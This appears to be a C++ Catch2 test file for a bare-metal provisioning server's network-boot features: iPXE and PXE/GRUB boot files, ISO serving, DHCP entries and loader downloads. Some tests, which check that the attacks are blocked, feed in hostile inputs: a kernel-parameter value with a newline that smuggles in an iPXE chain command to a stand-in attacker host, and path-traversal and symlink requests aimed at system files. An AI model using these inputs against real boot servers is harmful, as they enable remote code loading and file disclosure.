// Network boot: the ipxe boot interface's scripts and files through the API, and the pxe boot
// interface's pxelinux files, on fake-hardware nodes going through the agent flows.
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "server/drivers/netboot/netboot.h"
#include "tests/support/raw_http_client.h"
#include "tests/support/temp_dir.h"
#include "tests/support/test_api.h"

using kiln::test::Json;
using kiln::test::TempDir;
using kiln::test::TestApi;
namespace netboot = kiln::server::netboot;

namespace {

constexpr const char* kMac = "52:54:00:ab:cd:ef";

std::string readFile(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void settle(TestApi& api) { api.settle(); }

Json node(TestApi& api, const std::string& ident) {
  settle(api);
  return api.get("/v1/nodes/" + ident).json();
}

void verb(TestApi& api, const std::string& ident, const std::string& target) {
  REQUIRE(api.put("/v1/nodes/" + ident + "/states/provision", {{"target", target}}).status == 202);
  settle(api);
}

/// A fake-hardware node with the given boot interface, the direct deploy and one port.
void createNode(TestApi& api, const std::string& bootInterface, Json driverInfo) {
  auto created = api.createNode({{"name", "nb"},
                                 {"boot_interface", bootInterface},
                                 {"deploy_interface", "direct"},
                                 {"driver_info", driverInfo},
                                 {"instance_info", {{"image_source", "http://10.0.2.2:8080/img.raw"},
                                                    {"image_checksum", std::string(64, 'a')}}}});
  REQUIRE(api.post("/v1/ports", {{"address", kMac}, {"node_uuid", created["uuid"]}}).status == 201);
}

/// Agent images and a TFTP root in a temporary directory, for the pxe boot interface.
struct PxeFiles {
  explicit PxeFiles(const std::string& name) : dir(name) {
    std::ofstream(dir.file("kernel")) << "K";
    std::ofstream(dir.file("initramfs")) << "R";
    std::filesystem::create_directory(tftp);
  }
  /// kiln-server's configuration using them.
  std::string config() const {
    return "[conductor]\ndeploy_kernel = " + dir.file("kernel") + "\ndeploy_ramdisk = " +
           dir.file("initramfs") + "\nfile_url_allowed_paths = " + dir.path.string() +
           "\napi_url = http://10.0.0.1:6385/\n[pxe]\ntftp_root = " + tftp + "\n";
  }
  TempDir dir;
  const std::string tftp = dir.file("tftp");
};

}  // namespace

TEST_CASE("netboot helpers", "[server][netboot]") {
  CHECK(netboot::pxeConfigName("52:54:00:AB:cd:ef") == "01-52-54-00-ab-cd-ef");
  CHECK(netboot::isUrl("https://x/y"));
  CHECK_FALSE(netboot::isUrl("/srv/kernel"));

  kiln::server::Config config;
  auto missing = netboot::deployImages(config, Json::object());
  REQUIRE_FALSE(missing);
  CHECK_THAT(missing.error().message, Catch::Contains("'deploy_kernel', 'deploy_ramdisk'"));
  config.deployKernel = "/srv/k";
  config.deployRamdisk = "/srv/r";
  auto images = netboot::deployImages(config, {{"deploy_kernel", "http://x/k"}});
  REQUIRE(images);
  CHECK(images->kernel == "http://x/k");
  CHECK(images->ramdisk == "/srv/r");
  config.kernelAppendParams = "console=ttyS0";
  CHECK(netboot::kernelAppendParams(config, Json::object()) == "console=ttyS0");
  CHECK(netboot::kernelAppendParams(config, {{"kernel_append_params", ""}}).empty());  // as in Ironic
  CHECK(netboot::kernelAppendParams(config, {{"kernel_append_params", 7}}) == "console=ttyS0");
  CHECK(netboot::kernelAppendParams(config, {{"kernel_append_params", "nomodeset"}}) == "nomodeset");
  CHECK(netboot::kernelAppendParams(config, {{"kernel_append_params", "%default% a %default%"}}) ==
        "console=ttyS0 a console=ttyS0");
  config.kernelAppendParams = "x%default%";  // a default that itself holds the placeholder
  CHECK(netboot::kernelAppendParams(config, {{"kernel_append_params", "%default% b"}}) == "x%default% b");
}

TEST_CASE("ipxe: boot.ipxe chains to the MAC's script, which boots the agent only when needed", "[server][netboot]") {
  TempDir dir("kiln-netboot");
  const std::string kernel = dir.file("kernel");
  const std::string ramdisk = dir.file("initramfs");
  std::ofstream(kernel) << "KERNEL-BYTES";
  std::ofstream(ramdisk) << "INITRAMFS-BYTES";
  TestApi api("[conductor]\ndeploy_kernel = " + kernel + "\ndeploy_ramdisk = " + ramdisk +
              "\nfile_url_allowed_paths = " + dir.path.string() + "\n");
  api.version = "";  // iPXE sends no microversion

  // The scripts name the server as the booting machine reached it (the request's Host).
  auto chain = api.call("GET", "/boot.ipxe");
  REQUIRE(chain.status == 200);
  CHECK_THAT(chain.body, Catch::StartsWith("#!ipxe") &&
                             Catch::Contains("chain http://kiln.test:6385/boot/${mac:hexhyp}.ipxe"));

  // Unknown MAC: boot the next device.
  auto unknown = api.call("GET", "/boot/52-54-00-00-00-01.ipxe");
  REQUIRE(unknown.status == 200);
  CHECK_THAT(unknown.body, Catch::Contains("sanboot") && !Catch::Contains("kernel "));
  CHECK(api.call("GET", "/boot/not-a-mac.ipxe").status == 400);

  api.version = "1.78";
  createNode(api, "ipxe", Json::object());
  auto v = api.get("/v1/nodes/nb/validate").json();
  CHECK(v["boot"]["result"] == true);
  api.version = "";
  // Enrolled, not deploying: the local disk.
  CHECK_THAT(api.call("GET", "/boot/52-54-00-AB-CD-EF.ipxe").body, Catch::Contains("sanboot"));

  api.version = "1.78";
  verb(api, "nb", "manage");
  verb(api, "nb", "provide");  // automated cleaning boots the agent
  const std::string uuid = node(api, "nb")["uuid"];
  REQUIRE(node(api, "nb")["provision_state"] == "clean wait");
  api.version = "";
  auto script = api.call("GET", "/boot/52-54-00-ab-cd-ef.ipxe");
  REQUIRE(script.status == 200);
  CHECK_THAT(script.body, Catch::Contains("kernel http://kiln.test:6385/boot/" + uuid + "/kernel") &&
                              Catch::Contains("kiln.api_url=http://kiln.test:6385") &&
                              Catch::Contains("initrd --name kiln-agent.initramfs http://kiln.test:6385/boot/" + uuid + "/ramdisk") &&
                              Catch::Contains(" console=tty0 console=ttyS0,115200n8 initcall_blacklist="
                                              "crypto_kdf108_init cryptomgr.notests || goto failed"));
  auto k = api.call("GET", "/boot/" + uuid + "/kernel");
  CHECK(k.status == 200);
  CHECK(k.body == "KERNEL-BYTES");
  CHECK(api.call("GET", "/boot/" + uuid + "/ramdisk").body == "INITRAMFS-BYTES");
  CHECK(api.call("GET", "/boot/" + uuid + "/passwd").status == 404);
  CHECK(api.call("GET", "/boot/1be26c0b-03f2-4d2e-ae87-c02d7f33c123/kernel").status == 404);

  // Abort the cleaning (the agent never came): the node leaves the ramdisk.
  api.version = "1.78";
  verb(api, "nb", "abort");
  api.version = "";
  CHECK_THAT(api.call("GET", "/boot/52-54-00-ab-cd-ef.ipxe").body, Catch::Contains("sanboot"));
}

TEST_CASE("ipxe: kernel_append_params with a newline fails validation and never reaches a script",
          "[server][netboot]") {
  TempDir dir("kiln-netboot");
  const std::string kernel = dir.file("kernel");
  const std::string ramdisk = dir.file("initramfs");
  std::ofstream(kernel) << "K";
  std::ofstream(ramdisk) << "R";
  TestApi api("[conductor]\ndeploy_kernel = " + kernel + "\ndeploy_ramdisk = " + ramdisk +
              "\nfile_url_allowed_paths = " + dir.path.string() + "\n");
  createNode(api, "ipxe", {{"kernel_append_params", "quiet\nchain http://evil.example/x"}});
  const Json v = api.get("/v1/nodes/nb/validate").json();
  CHECK(v["boot"]["result"] == false);
  CHECK_THAT(v["boot"]["reason"].get<std::string>(), Catch::Contains("control characters"));
  verb(api, "nb", "manage");
  verb(api, "nb", "provide");  // automated cleaning would boot the agent: it fails instead
  const Json n = node(api, "nb");
  CHECK(n["provision_state"] == "clean failed");
  CHECK_THAT(n["last_error"].get<std::string>(), Catch::Contains("control characters"));
  api.version = "";
  const auto script = api.call("GET", "/boot/52-54-00-ab-cd-ef.ipxe");
  CHECK_THAT(script.body, !Catch::Contains("evil.example"));
}

TEST_CASE("ipxe: URLs are handed to iPXE as they are; missing images fail validation", "[server][netboot]") {
  TestApi api;
  createNode(api, "ipxe", Json::object());
  auto v = api.get("/v1/nodes/nb/validate").json();
  CHECK(v["boot"]["result"] == false);
  CHECK_THAT(v["boot"]["reason"].get<std::string>(), Catch::Contains("deploy_kernel"));
  api.patch("/v1/nodes/nb", Json::array({{{"op", "add"}, {"path", "/driver_info/deploy_kernel"}, {"value", "http://img/k"}},
                                         {{"op", "add"}, {"path", "/driver_info/deploy_ramdisk"}, {"value", "/nonexistent/r"}}}));
  v = api.get("/v1/nodes/nb/validate").json();
  CHECK_THAT(v["boot"]["reason"].get<std::string>(), Catch::Contains("/nonexistent/r"));
  api.patch("/v1/nodes/nb", Json::array({{{"op", "replace"}, {"path", "/driver_info/deploy_ramdisk"}, {"value", "http://img/r"}},
                                         {{"op", "add"}, {"path", "/driver_info/kernel_append_params"}, {"value", "nomodeset %default%"}}}));
  CHECK(api.get("/v1/nodes/nb/validate").json()["boot"]["result"] == true);
  verb(api, "nb", "manage");
  verb(api, "nb", "provide");
  api.version = "";
  auto script = api.call("GET", "/boot/52:54:00:ab:cd:ef.ipxe");
  // The node's own kernel arguments (driver_info), around the configured ones.
  CHECK_THAT(script.body, Catch::Contains("kernel http://img/k ") && Catch::Contains("initrd --name kiln-agent.initramfs http://img/r") &&
                              Catch::Contains(" nomodeset console=tty0 console=ttyS0,115200n8 initcall_blacklist="));
}

TEST_CASE("pxe: pxelinux files for the agent, then local boot, removed on undeploy", "[server][netboot]") {
  PxeFiles files("kiln-pxe");
  const std::string& tftp = files.tftp;
  TestApi api(files.config());
  createNode(api, "pxe", Json::object());
  // A BIOS machine (the fake BMC says uefi; the capability wins and is set on it).
  REQUIRE(api.patch("/v1/nodes/nb", Json::array({{{"op", "add"}, {"path", "/properties/capabilities"},
                                                  {"value", "boot_mode:bios"}}}))
              .status == 200);
  CHECK(api.get("/v1/nodes/nb/validate").json()["boot"]["result"] == true);
  verb(api, "nb", "manage");
  verb(api, "nb", "provide");
  const std::string uuid = node(api, "nb")["uuid"];
  CHECK(node(api, "nb")["boot_mode"] == "bios");
  CHECK_FALSE(std::filesystem::exists(tftp + "/grub.cfg-01-52-54-00-ab-cd-ef"));
  const std::string config = tftp + "/pxelinux.cfg/01-52-54-00-ab-cd-ef";
  REQUIRE(std::filesystem::exists(config));
  CHECK_THAT(readFile(config), Catch::Contains("kernel " + uuid + "/deploy_kernel") &&
                                   Catch::Contains("initrd=" + uuid + "/deploy_ramdisk") &&
                                   Catch::Contains("kiln.api_url=http://10.0.0.1:6385 ") &&
                                   Catch::Contains("cryptomgr.notests"));
  CHECK(readFile(tftp + "/" + uuid + "/deploy_kernel") == "K");
  verb(api, "nb", "abort");
  CHECK_FALSE(std::filesystem::exists(config));
  CHECK_FALSE(std::filesystem::exists(tftp + "/" + uuid));
}

TEST_CASE("pxe on UEFI: GRUB configurations under Ironic's names, then local boot, removed on "
          "undeploy",
          "[server][netboot][boot_mode]") {
  PxeFiles files("kiln-grub");
  const std::string& tftp = files.tftp;
  // No capability anywhere: [deploy] default_boot_mode (uefi), which the fake BMC reports too.
  TestApi api(files.config());
  createNode(api, "pxe", Json::object());
  verb(api, "nb", "manage");
  verb(api, "nb", "provide");
  auto n = node(api, "nb");
  const std::string uuid = n["uuid"];
  CHECK(n["driver_internal_info"]["deploy_boot_mode"] == "uefi");
  CHECK(n["boot_mode"] == "uefi");
  CHECK_FALSE(std::filesystem::exists(tftp + "/pxelinux.cfg/01-52-54-00-ab-cd-ef"));
  for (const char* name : {"/grub.cfg-01-52-54-00-ab-cd-ef", "/52:54:00:ab:cd:ef.conf"}) {
    INFO(name);
    const std::string text = readFile(tftp + name);
    CHECK_THAT(text, Catch::Contains("linux /" + uuid + "/deploy_kernel kiln.api_url=http://10.0.0.1:6385 "
                                     "BOOTIF=01-52-54-00-ab-cd-ef ") &&
                         Catch::Contains("initrd /" + uuid + "/deploy_ramdisk") &&
                         Catch::Contains("cryptomgr.notests"));
  }
  CHECK_THAT(readFile(tftp + "/grub/grub.cfg"), Catch::Contains("configfile /$net_default_mac.conf"));
  CHECK(readFile(tftp + "/" + uuid + "/deploy_kernel") == "K");
  verb(api, "nb", "abort");
  CHECK_FALSE(std::filesystem::exists(tftp + "/grub.cfg-01-52-54-00-ab-cd-ef"));
  CHECK_FALSE(std::filesystem::exists(tftp + "/52:54:00:ab:cd:ef.conf"));
  CHECK_FALSE(std::filesystem::exists(tftp + "/" + uuid));

  // An instance that asks for bios on a node whose capability says uefi fails to deploy.
  REQUIRE(api.patch("/v1/nodes/nb", Json::array({{{"op", "add"}, {"path", "/properties/capabilities"},
                                                  {"value", "boot_mode:uefi"}},
                                                 {{"op", "add"}, {"path", "/instance_info/capabilities"},
                                                  {"value", {{"boot_mode", "bios"}}}},
                                                 {{"op", "add"}, {"path", "/automated_clean"}, {"value", false}}}))
              .status == 200);
  verb(api, "nb", "manage");
  verb(api, "nb", "provide");
  n = node(api, "nb");
  REQUIRE(n["provision_state"] == "available");
  verb(api, "nb", "active");
  n = node(api, "nb");
  CHECK(n["provision_state"] == "deploy failed");
  CHECK_THAT(n["last_error"].get<std::string>(), Catch::Contains("violates node properties/capabilities uefi"));
}

TEST_CASE("pxe: validation needs local images, an API URL and a writable TFTP root", "[server][netboot]") {
  TestApi api("[conductor]\ndeploy_kernel = http://x/k\ndeploy_ramdisk = http://x/r\n[pxe]\ntftp_root = /nonexistent\n");
  createNode(api, "pxe", Json::object());
  auto reason = api.get("/v1/nodes/nb/validate").json()["boot"]["reason"].get<std::string>();
  CHECK_THAT(reason, Catch::Contains("must be a local file"));
}

TEST_CASE("ipxe: a kernel larger than the socket can take at once arrives whole over HTTP",
          "[server][netboot][http]") {
  // 12 MiB is more than a socket's largest send buffer here (4 MiB): the first write takes
  // part of the response and the rest is queued and sent as the client reads.
  TempDir dir("kiln-netboot");
  const std::string kernel = dir.file("kernel");
  std::string bytes(12u << 20, '\0');
  for (size_t i = 0; i < bytes.size(); ++i) bytes[i] = static_cast<char>((i * 7 + i / 4093) & 0xff);
  std::ofstream(kernel, std::ios::binary) << bytes;
  std::ofstream(dir.file("initramfs")) << "INITRAMFS-BYTES";
  TestApi api("[api]\nport = 0\n[conductor]\ndeploy_kernel = " + kernel +
              "\ndeploy_ramdisk = " + dir.file("initramfs") + "\nfile_url_allowed_paths = " + dir.path.string() + "\n");
  createNode(api, "ipxe", Json::object());
  verb(api, "nb", "manage");
  verb(api, "nb", "provide");
  const std::string uuid = node(api, "nb")["uuid"];
  REQUIRE(api.app().start());

  kiln::test::RawClient client(api.app().port(), 4096);
  const std::string r = client.roundTrip("GET /boot/" + uuid + "/kernel HTTP/1.1\r\nHost: x\r\n\r\n");
  REQUIRE(r.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
  const auto headerEnd = r.find("\r\n\r\n");
  CHECK_THAT(r.substr(0, headerEnd), Catch::Contains("Content-Type: application/octet-stream") &&
                                         Catch::Contains("Content-Length: 12582912"));
  CHECK(r.size() - headerEnd - 4 == bytes.size());
  CHECK(r.compare(headerEnd + 4, std::string::npos, bytes) == 0);
  // The same connection answers the next request only after the whole kernel.
  const std::string next = client.roundTrip("GET /boot/" + uuid + "/ramdisk HTTP/1.1\r\nHost: x\r\n\r\n");
  CHECK_THAT(next, Catch::StartsWith("HTTP/1.1 200 OK\r\n") && Catch::EndsWith("\r\n\r\nINITRAMFS-BYTES"));
  api.app().stop();
}

TEST_CASE("GET /v1/vmedia serves only the ISOs of http_root, by their names, unauthenticated",
          "[server][netboot][vmedia]") {
  kiln::test::TempDir dir("kiln-httproot");
  namespace fs = std::filesystem;
  fs::create_directories(dir.file("httpboot"));
  std::ofstream(dir.file("htpasswd")) << "admin:$2y$04$yNagjehOdvxOluZFDAQywegpKCB1ps1nWXjNykcOaEKe6JrnNyI.W\n";
  TestApi api("[DEFAULT]\nauth_strategy = http_basic\nhttp_basic_auth_user_file = " + dir.file("htpasswd") +
              "\n[deploy]\nhttp_root = " + dir.file("httpboot") + "\n");
  CHECK(api.get("/v1/nodes").status == 401);
  const std::string name = "boot-1be26c0b-03f2-4d2e-ae87-c02d7f33c123-" + std::string(43, 'Z') + ".iso";
  std::ofstream(dir.file("httpboot/" + name), std::ios::binary) << "ISO-BYTES";
  auto served = api.call("GET", "/v1/vmedia/" + name);
  CHECK(served.status == 200);
  CHECK(served.body == "ISO-BYTES");
  CHECK(api.call("GET", "/vmedia/" + name).status == 200);  // re-rooted under /v1 like /boot
  // Not a name the interface gives, missing, a link, a directory: the same 404.
  std::ofstream(dir.file("httpboot/other.iso")) << "x";
  CHECK(api.call("GET", "/v1/vmedia/other.iso").status == 404);
  CHECK(api.call("GET", "/v1/vmedia/" + name.substr(0, name.size() - 5) + "Y.iso").status == 404);
  const std::string link = "boot-1be26c0b-03f2-4d2e-ae87-c02d7f33c123-" + std::string(43, 'L') + ".iso";
  fs::create_symlink("/etc/hostname", dir.file("httpboot/" + link));
  CHECK(api.call("GET", "/v1/vmedia/" + link).status == 404);
  const std::string folder = "boot-1be26c0b-03f2-4d2e-ae87-c02d7f33c123-" + std::string(43, 'D') + ".iso";
  fs::create_directories(dir.file("httpboot/" + folder));
  CHECK(api.call("GET", "/v1/vmedia/" + folder).status == 404);
  CHECK(api.call("GET", "/v1/vmedia/..%2F..%2Fetc%2Fpasswd").status == 404);
}

TEST_CASE("dnsmasq: a node's DHCP entry is written when its agent boots and ignored when it stops",
          "[server][netboot][dhcp]") {
  TempDir dir("kiln-dhcp");
  std::ofstream(dir.file("kernel")) << "K";
  std::ofstream(dir.file("initramfs")) << "R";
  TestApi api("[DEFAULT]\nenabled_boot_interfaces = fake, ipxe, pxe, http-ipxe, http\n"
              "[conductor]\ndeploy_kernel = " + dir.file("kernel") + "\ndeploy_ramdisk = " +
              dir.file("initramfs") + "\nfile_url_allowed_paths = " + dir.path.string() +
              "\napi_url = http://192.0.2.1:6385\n[dhcp]\ndhcp_provider = dnsmasq\n[dnsmasq]\n"
              "dhcp_hostsdir = " + dir.file("hosts") + "\ndhcp_optsdir = " + dir.file("opts") + "\n");
  createNode(api, "http-ipxe", Json::object());
  const std::string host = dir.file("hosts/kiln-52-54-00-ab-cd-ef");
  verb(api, "nb", "manage");
  CHECK_FALSE(std::filesystem::exists(host));  // nothing boots yet
  verb(api, "nb", "provide");
  REQUIRE(node(api, "nb")["provision_state"] == "clean wait");
  const std::string entry = readFile(host);
  REQUIRE_THAT(entry, Catch::StartsWith(std::string(kMac) + ",set:kiln,set:kiln-"));
  const std::string tag = entry.substr(entry.rfind(":") + 1, entry.size() - entry.rfind(":") - 2);
  CHECK_THAT(readFile(dir.file("opts/" + tag)),
             Catch::Contains("tag:" + tag + ",tag:ipxe,option:bootfile-name,http://192.0.2.1:6385/boot.ipxe"));
  // http-ipxe machines run the agent's iPXE script like ipxe ones.
  api.version = "";
  CHECK_THAT(api.call("GET", "/boot/52-54-00-ab-cd-ef.ipxe").body, Catch::Contains("kiln.api_url="));
  api.version = "1.78";
  verb(api, "nb", "abort");
  CHECK(node(api, "nb")["provision_state"] == "clean failed");
  CHECK(readFile(host) == std::string(kMac) + ",ignore\n");
}

TEST_CASE("GET /boot/loaders serves only the loaders kiln-server copies, from tftp_root",
          "[server][netboot][dhcp]") {
  TempDir dir("kiln-loaders");
  std::filesystem::create_directory(dir.file("tftp"));
  std::ofstream(dir.file("tftp/snponly.efi")) << "SNP";
  std::ofstream(dir.file("tftp/secret.txt")) << "no";
  TestApi api("[pxe]\ntftp_root = " + dir.file("tftp") + "\n");
  api.version = "";
  auto served = api.call("GET", "/boot/loaders/snponly.efi");
  CHECK(served.status == 200);
  CHECK(served.body == "SNP");
  CHECK(api.call("GET", "/boot/loaders/secret.txt").status == 404);
  CHECK(api.call("GET", "/boot/loaders/ipxe.efi").status == 404);  // a known name, not copied
  CHECK(api.call("GET", "/boot/loaders/..%2Fsecret.txt").status == 404);
}
